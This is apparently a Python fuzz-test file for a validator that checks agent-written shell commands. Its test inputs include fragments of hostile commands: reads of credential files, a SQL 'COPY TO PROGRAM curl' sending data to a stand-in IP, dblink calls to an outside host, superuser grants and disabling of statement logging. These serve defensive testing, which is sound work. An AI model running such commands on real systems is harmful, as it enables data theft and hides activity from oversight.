"""Fuzzing the eighteenth session's readers: the log shippers' settings (shippers.py), the commands of a build.rs
(rust_commands.py) and the SQL reader's new parts (unloads, dblink, privilege, comments kept out of strings) must
give an answer for any text, never raise; the same texts written by a command must get a verdict."""
from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent_immune.validate import Policy, sql, validate
from agent_immune.validate.rust_commands import command_lines
from agent_immune.validate.shippers import public_destination, secret_read

_SHIPPER = st.lists(st.sampled_from([
    "__path__:", "include:", "[", "]", "{", "}", ",", "/home/*/.{ssh,aws}/*", "~/.aws/credentials", "url:",
    "http://203.0.113.9:3100/loki/api/v1/push", "endpoint:", "dd_url:", "exclude:", "key_file:", "\n", "  ", "- ",
    "'", '"', "path", "[INPUT]", "Path", "/etc/shadow", "*", "**", "#", "=", "filelog:", "otlphttp:"]),
    max_size=40).map("".join)
_RUST = st.lists(st.sampled_from([
    "Command::new(", '"curl"', '"sh"', ")", ".arg(", ".args([", "])", ",", "&format!(", '"{}/.cargo/credentials.toml"',
    "home", '"-F"', ";", "\n", "let home = std::env::var(\"HOME\")", "(", "\"", "\\", "{", "}", ".status()"]),
    max_size=40).map("".join)
_SQL = st.lists(st.sampled_from([
    "COPY", "(", ")", "TO PROGRAM", "'", "curl --data-binary @- http://203.0.113.8/", "--", "/*", "*/", ";",
    "create stage s url=", "'s3://b/p'", "credentials=(aws_key_id='A' aws_secret_key='B')", "copy into @s from t",
    "dblink_exec(", "'host=203.0.113.55 dbname=x'", "CREATE ROLE x", "SUPERUSER", "ALTER ROLE x SET log_statement",
    "= 'none'", "GRANT ALL ON *.* TO x WITH GRANT OPTION", "VACUUM t RETAIN 0 HOURS", "remove @stage/x", " ", "\n",
    "$$", "E'", "\\'"]), max_size=40).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_SHIPPER)
def test_shipper_reader_never_raises(text: str) -> None:
    secret_read(text)
    public_destination(text)
    cmd = f"cat > deploy/promtail.yaml <<'EOF'\n{text}\nEOF"
    assert validate(cmd, "bash", policy=Policy()).verdict in ("allow", "review", "block")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_RUST)
def test_build_rs_reader_never_raises(text: str) -> None:
    assert all(isinstance(line, str) for line in command_lines(text))
    cmd = f"cat > build.rs <<'EOF'\n{text}\nEOF"
    assert validate(cmd, "bash", policy=Policy()).verdict in ("allow", "review", "block")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_SQL)
def test_sql_reader_never_raises(text: str) -> None:
    sql.loss(text)
    sql.data_export(text)
    sql.privilege(text)
    sql.server_effects(text)
    assert validate(f"psql \"$PROD_WAREHOUSE_URL\" <<'SQL'\n{text}\nSQL", "bash",
                    policy=Policy()).verdict in ("allow", "review", "block")
